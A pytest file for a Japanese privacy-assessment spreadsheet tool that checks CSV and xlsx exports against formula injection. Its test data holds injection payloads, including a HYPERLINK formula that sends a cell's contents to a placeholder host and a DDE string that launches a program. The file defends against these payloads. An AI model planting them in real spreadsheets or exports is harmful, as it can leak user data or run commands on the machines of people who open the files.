"""Tables written for people store text as text: a value beginning with =, +, -, @ never becomes a formula
(issue 15): export to CSV/xlsx and validate --summary, read back with openpyxl and the csv module."""
from __future__ import annotations

import csv
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from pia_excel import api
from pia_excel.cli import main
from pia_excel.excel.tables import FORMULA_START, csv_cell

FIXTURES = Path(__file__).with_name("fixtures")
HOSTILE = ['=HYPERLINK("http://example.invalid/?"&A1,"開く")', "+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(1,2)",
           "\t=1+1", "\r=1+1"]


@pytest.fixture(scope="module")
def books(tmp_path_factory) -> Path:
    """A document full of formula-like values, saved under a name that begins with "=" too."""
    root = tmp_path_factory.mktemp("formula")
    doc = api.load(FIXTURES / "kushiro_shuno_juten.json").doc
    doc.cover.hyokasho_mei = HOSTILE[0]
    doc.cover.hyoka_jisshi_kikan_mei = HOSTILE[1]
    doc.files[0].II.II_1 = HOSTILE[2]  # the 特定個人情報ファイル名
    api.save(doc, root / "=1+2.xlsx")
    doc.cover.hyokasho_mei = HOSTILE[3]
    api.save(doc, root / "@b.xlsx")
    return root


def test_csv_cell_escapes_what_a_spreadsheet_would_run():
    for v in HOSTILE:
        assert csv_cell(v) == "'" + v
    for v in ("評価書", "", "-", "-1", "+81", "-1.5", "1e5", None, 3, -2.5):
        assert csv_cell(v) == v


def _csv_cells(path: Path) -> list[str]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return [c for row in csv.reader(fh) for c in row]


def _assert_no_formula_in_csv(path: Path) -> list[str]:
    cells = _csv_cells(path)
    for c in cells:
        assert not c.startswith(FORMULA_START) or csv_cell(c) == c, (path, c)
    return cells


def _assert_no_formula_in_xlsx(path: Path) -> list[str]:
    wb = load_workbook(path)  # not data_only: a formula would come back as one
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (path, ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    texts.append(cell.value)
    return texts


def test_export_csv_and_xlsx_hold_no_formula(books, tmp_path):
    r = CliRunner().invoke(main, ["export", str(books), "-o", str(tmp_path / "t.csv"), "-j", "1"])
    assert r.exit_code == 0, r.output
    cells = _assert_no_formula_in_csv(tmp_path / "t.csv") + _assert_no_formula_in_csv(tmp_path / "t_files.csv")
    assert "'" + HOSTILE[0] in cells and "'" + HOSTILE[2] in cells and "'" + HOSTILE[3] in cells
    assert any(c.endswith("=1+2.xlsx") for c in cells)  # the file name, a path: begins with the folder
    r = CliRunner().invoke(main, ["export", str(books), "-o", str(tmp_path / "t.xlsx"), "-j", "1"])
    assert r.exit_code == 0, r.output
    texts = _assert_no_formula_in_xlsx(tmp_path / "t.xlsx")
    assert HOSTILE[0] in texts and HOSTILE[1] in texts and HOSTILE[2] in texts  # stored as they are, as text


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_validate_summary_holds_no_formula(books, tmp_path, suffix):
    out = tmp_path / f"s{suffix}"
    r = CliRunner().invoke(main, ["validate", str(books / "=1+2.xlsx"), str(books / "@b.xlsx"), "--summary", str(out),
                                  "-j", "1", "--today", "2026-11-23"])
    assert r.exit_code in (0, 1), r.output
    if suffix == ".csv":
        cells = _assert_no_formula_in_csv(out)
        assert "'" + HOSTILE[0] in cells and "'" + HOSTILE[1] in cells and "'" + HOSTILE[3] in cells
    else:
        texts = _assert_no_formula_in_xlsx(out)
        assert HOSTILE[0] in texts and HOSTILE[3] in texts


def test_result_sheet_and_changelog_rows_hold_no_formula(books, tmp_path):
    out = tmp_path / "rep"
    r = CliRunner().invoke(main, ["validate", str(books / "=1+2.xlsx"), "--report-xlsx", str(out),
                                  "--today", "2026-11-23"])
    assert r.exit_code in (0, 1), r.output
    for path in out.glob("*.xlsx"):
        _assert_no_formula_in_xlsx(path)


def _libreoffice_reads_csv(csv_path: Path, out_dir: Path) -> list[tuple[str, object, str]]:
    """The CSV opened by LibreOffice with formula evaluation on (CSV filter option 13), saved as xlsx and read
    back: (coordinate, value, openpyxl data type) of every cell."""
    import subprocess

    from pia_excel.pdf.render import find_soffice

    options = "CSV:44,34,76,1,,1041,false,false,false,false,false,-1,true"  # UTF-8, 日本語, evaluate formulas
    subprocess.run([find_soffice(), "--headless", "--norestore", f"-env:UserInstallation={(out_dir / 'p').as_uri()}",
                    f"--infilter={options}", "--convert-to", "xlsx", "--outdir", str(out_dir), str(csv_path)],
                   check=True, capture_output=True, timeout=180)
    ws = load_workbook(out_dir / csv_path.with_suffix(".xlsx").name).active
    return [(c.coordinate, c.value, c.data_type) for row in ws.iter_rows() for c in row if c.value is not None]


@pytest.mark.libreoffice
def test_libreoffice_opens_the_exported_csv_without_a_formula(books, tmp_path):
    r = CliRunner().invoke(main, ["export", str(books), "-o", str(tmp_path / "t.csv"), "-j", "1"])
    assert r.exit_code == 0, r.output
    control = tmp_path / "raw.csv"  # the same values unescaped: LibreOffice takes them as formulas
    with open(control, "w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows([["a"], *([v] for v in HOSTILE[:4])])
    raw = _libreoffice_reads_csv(control, tmp_path / "raw")
    assert [v for _, v, t in raw if t == "f"] == [HOSTILE[0]]  # the =HYPERLINK(…) one runs
    for name in ("t.csv", "t_files.csv"):
        cells = _libreoffice_reads_csv(tmp_path / name, tmp_path / name.split(".")[0])
        assert [c for c in cells if c[2] == "f"] == [], name
    texts = {v for _, v, _ in _libreoffice_reads_csv(tmp_path / "t.csv", tmp_path / "again")}
    assert "'" + HOSTILE[0] in texts  # the value is there, as text
